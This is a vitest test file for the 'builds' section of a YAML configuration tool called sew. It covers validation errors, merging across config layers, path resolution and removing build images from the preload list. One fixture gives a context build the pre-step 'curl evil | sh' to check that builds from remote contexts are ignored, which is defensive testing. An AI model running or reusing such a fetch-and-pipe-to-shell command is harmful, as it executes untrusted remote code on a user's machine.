// `builds` in the plan: validated where written, merged as sew merges them, paths resolved
// against the file that declared them, their images out of the preload list.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { selectBuilds, type BuildPlan } from '../../../src/core/build/plan.js';
import { InputError } from '../../../src/core/errors.js';
import { resolvePlan } from '../../support/resolve-plan.js';
import { writeTree } from '../../support/tree.js';
import { planFor, yaml } from '../config/plan-helpers.js';

describe('builds: bad input names file:line:col', () => {
  const cases: { name: string; builds: string; error: string }[] = [
    { name: 'not a list', builds: 'builds: {api: {}}\n', error: 'sew.yaml:1:9: "builds" must be an array' },
    { name: 'no image', builds: 'builds:\n  - name: api\n', error: 'sew.yaml:2:5: "builds.0.image" must be a string' },
    { name: 'no name', builds: 'builds:\n  - image: api:dev\n', error: 'sew.yaml:2:5: "builds.0.name" must be a string' },
    { name: 'a name with a space', builds: 'builds:\n  - {name: "my api", image: api:dev}\n', error: 'sew.yaml:2:12: "builds.0.name" must be a word' },
    { name: 'an unknown field', builds: 'builds:\n  - {name: api, image: api:dev, args: {A: b}}\n', error: 'sew.yaml:2:33: unknown field "args" in "builds.0"' },
    { name: 'pre not a list', builds: 'builds:\n  - {name: api, image: api:dev, pre: make}\n', error: 'sew.yaml:2:38: "builds.0.pre" must be an array' },
    { name: 'a build arg that is not a string', builds: 'builds:\n  - {name: api, image: api:dev, buildArgs: {N: 1}}\n', error: '"builds.0.buildArgs.N" must be a string' },
    { name: 'a build arg name that is not a variable', builds: 'builds:\n  - {name: api, image: api:dev, buildArgs: {"A-B": x}}\n', error: 'sew.yaml:2:52: "builds.0.buildArgs.A-B" is not a valid key: it must be a variable name' },
    { name: 'a bad platform', builds: 'builds:\n  - {name: api, image: api:dev, platform: amd64}\n', error: 'sew.yaml:2:43: "builds.0.platform" must look like os/arch' },
    { name: 'an unknown architecture', builds: 'builds:\n  - {name: api, image: api:dev, platform: linux/amd65}\n', error: 'sew.yaml:2:43: "builds.0.platform" "linux/amd65": unknown architecture amd65' },
    { name: 'a duplicate name', builds: 'builds:\n  - {name: api, image: a:1}\n  - {name: api, image: b:1}\n', error: 'sew.yaml:3:12: "builds.1.name" is "api", already the name of another build' },
    { name: 'a bad image', builds: 'builds:\n  - {name: api, image: My/Api}\n', error: 'sew.yaml:2:24: invalid image reference "My/Api": repository must be lowercase' },
    { name: 'a digest image', builds: `builds:\n  - {name: api, image: "api@sha256:${'a'.repeat(64)}"}\n`, error: 'sew.yaml:2:24: "api@sha256:' },
    { name: 'an unset variable in dir', builds: 'builds:\n  - {name: api, image: api:dev, dir: $NOPE_SRC/api}\n', error: 'sew.yaml:2:38: environment variable NOPE_SRC is not set' },
  ];
  it.each(cases)('$name', async ({ builds, error }) => {
    const failure = await planFor({ files: { 'project/sew.yaml': builds } }).catch((e: unknown) => e);
    expect(failure).toBeInstanceOf(InputError);
    expect((failure as Error).message).toContain(error);
    expect((failure as Error).message).not.toContain('\n');
  });
});

describe('builds: merge across layers, as sew', () => {
  const user = yaml`
    builds:
      - {name: tools, image: tools:dev}
  `;
  const context = yaml`
    builds:
      - {name: remote, image: remote:dev, pre: ["curl evil | sh"]}
  `;
  const cases: { name: string; files: Record<string, string>; names: string[]; warning?: string }[] = [
    { name: 'the project list replaces the user list', files: { 'home/sew.yaml': user, 'project/sew.yaml': 'builds:\n  - {name: api, image: api:dev}\n  - {name: web, image: web:dev}\n' }, names: ['api', 'web'] },
    { name: 'an empty project list keeps the user list', files: { 'home/sew.yaml': user, 'project/sew.yaml': 'builds: []\n' }, names: ['tools'] },
    { name: 'a project without builds keeps the user list', files: { 'home/sew.yaml': user, 'project/sew.yaml': 'kind: {name: x}\n' }, names: ['tools'] },
    {
      name: "the project's builds replace a context's",
      files: { 'project/reg/base/sew.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\nbuilds:\n  - {name: api, image: api:dev}\n' },
      names: ['api'],
    },
    {
      name: "a context's builds are ignored, as in sew",
      files: { 'project/reg/base/sew.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n' },
      names: [],
      warning: 'reg/base/sew.yaml:2:3: "builds" has no effect in a context, as in sew; declare builds in your sew.yaml',
    },
    {
      name: "a context's builds do not replace the user file's",
      files: { 'home/sew.yaml': user, 'project/reg/base/sew.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n' },
      names: ['tools'],
    },
    {
      name: "a context flag's builds are ignored too",
      files: { 'project/reg/base/sew.yaml': 'kind: {name: x}\n', 'project/reg/base/sew--dev.yaml': context, 'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n' },
      names: [],
      warning: 'reg/base/sew--dev.yaml:2:3: "builds" has no effect in a context flag file',
    },
  ];
  it.each(cases)('$name', async ({ files, names, warning }) => {
    const plan = await planFor({ files, options: { flags: files['project/reg/base/sew--dev.yaml'] ? ['dev'] : [] } });
    expect(plan.builds.map((b) => b.name)).toEqual(names);
    if (warning) expect(plan.warnings).toContain(warning);
    expect(plan.carried).not.toHaveProperty('builds');
  });
});

describe('builds: paths', () => {
  it.each([
    { name: 'defaults: the declaring file directory, its Dockerfile', build: '{name: a, image: a:1}', dir: 'project', context: 'project', dockerfile: 'project/Dockerfile', written: false },
    { name: 'dir relative to the file, context and dockerfile relative to dir', build: '{name: a, image: a:1, dir: ../src, context: out, dockerfile: docker/Dockerfile}', dir: 'src', context: 'src/out', dockerfile: 'src/docker/Dockerfile', written: true },
    { name: '$VAR and ${VAR} from the environment', build: '{name: a, image: a:1, dir: "$SRC/api", context: "${OUT}"}', dir: 'src/api', context: 'src/api/target', dockerfile: 'src/api/target/Dockerfile', written: false },
    { name: '~ is the home directory', build: '{name: a, image: a:1, dir: ~/code}', dir: 'code', context: 'code', dockerfile: 'code/Dockerfile', written: false },
    { name: 'an absolute dir stays', build: '{name: a, image: a:1, dir: /opt/app}', dir: '/opt/app', context: '/opt/app', dockerfile: '/opt/app/Dockerfile', written: false },
  ])('$name', async ({ build, dir, context, dockerfile, written }) => {
    const root = writeTree({ 'project/sew.yaml': `builds:\n  - ${build}\n` });
    const plan = await resolvePlan({ cwd: join(root, 'project'), sewHome: join(root, 'home'), env: { HOME: root, SRC: join(root, 'src'), OUT: 'target' } });
    const abs = (p: string) => (p.startsWith('/') ? p : join(root, p));
    expect(plan.builds[0]!.paths).toEqual({ dir: abs(dir), context: abs(context), dockerfile: abs(dockerfile), dockerfileWritten: written });
  });
});

describe('builds leave the preload list', () => {
  it.each([
    { name: 'a short name matches its normalised ref', preload: 'refs: [docker.io/library/api:dev, mongo:7]', builds: '{name: api, image: api:dev}', refs: ['docker.io/library/mongo:7'] },
    { name: 'a normalised build image matches a short ref', preload: 'refs: [api:dev, mongo:7]', builds: '{name: api, image: index.docker.io/library/api:dev}', refs: ['docker.io/library/mongo:7'] },
    { name: 'another tag stays', preload: 'refs: [api:1.0]', builds: '{name: api, image: api:dev}', refs: ['docker.io/library/api:1.0'] },
    { name: 'in replace mode too', preload: 'mode: replace\n    refs: [ghcr.io/acme/web:dev]', builds: '{name: web, image: ghcr.io/acme/web:dev}', refs: [] },
  ])('$name', async ({ preload, builds, refs }) => {
    const plan = await planFor({ files: { 'project/sew.yaml': `images:\n  preload:\n    ${preload}\nbuilds:\n  - ${builds}\n` } });
    expect(plan.preload.refs).toEqual(refs);
    expect(plan.preload.skipped).toEqual([]);
  });

  it("a context's build image stays in the preload list, and nothing is planned to build", async () => {
    const plan = await planFor({
      files: {
        'project/reg/base/sew.yaml': 'images:\n  preload:\n    refs: [acme/api:dev]\nbuilds:\n  - {name: api, image: acme/api:dev}\n',
        'project/sew.yaml': 'registry: file://./reg\nfrom: [base]\n',
      },
      options: { build: true },
    });
    expect(plan.preload.refs).toEqual(['docker.io/acme/api:dev']);
    expect(plan.builds).toEqual([]);
    expect(plan.needs.builds).toBe(false);
  });

  it('the nodes are wired to the preload registry even when only builds use it', async () => {
    const plan = await planFor({ files: { 'project/sew.yaml': 'images:\n  mirrors: null\nbuilds:\n  - {name: api, image: api:dev}\n' } });
    expect(plan.preload.refs).toEqual([]);
    expect(JSON.stringify(plan.kindConfig)).toContain(plan.hostsDir);
  });
});

describe('selecting builds', () => {
  const builds = ['api', 'web', 'worker'].map((name) => ({ name, image: `docker.io/library/${name}:dev` }) as BuildPlan);
  it.each([
    { names: [], selected: ['api', 'web', 'worker'] },
    { names: ['worker', 'api'], selected: ['worker', 'api'] },
    { names: ['web', 'web'], selected: ['web'] },
  ])('$names -> $selected', ({ names, selected }) => {
    expect(selectBuilds(builds, names, 'sew-ci build').map((b) => b.name)).toEqual(selected);
  });

  it('an unknown name is an input error listing the builds', () => {
    expect(() => selectBuilds(builds, ['api', 'wbe'], 'sew-ci build')).toThrow(new InputError('sew-ci build', 'unknown build "wbe"; available: api, web, worker'));
  });

  it('no builds at all is an input error', () => {
    expect(() => selectBuilds([], [], 'sew-ci build')).toThrow(/no builds are declared/);
  });
});
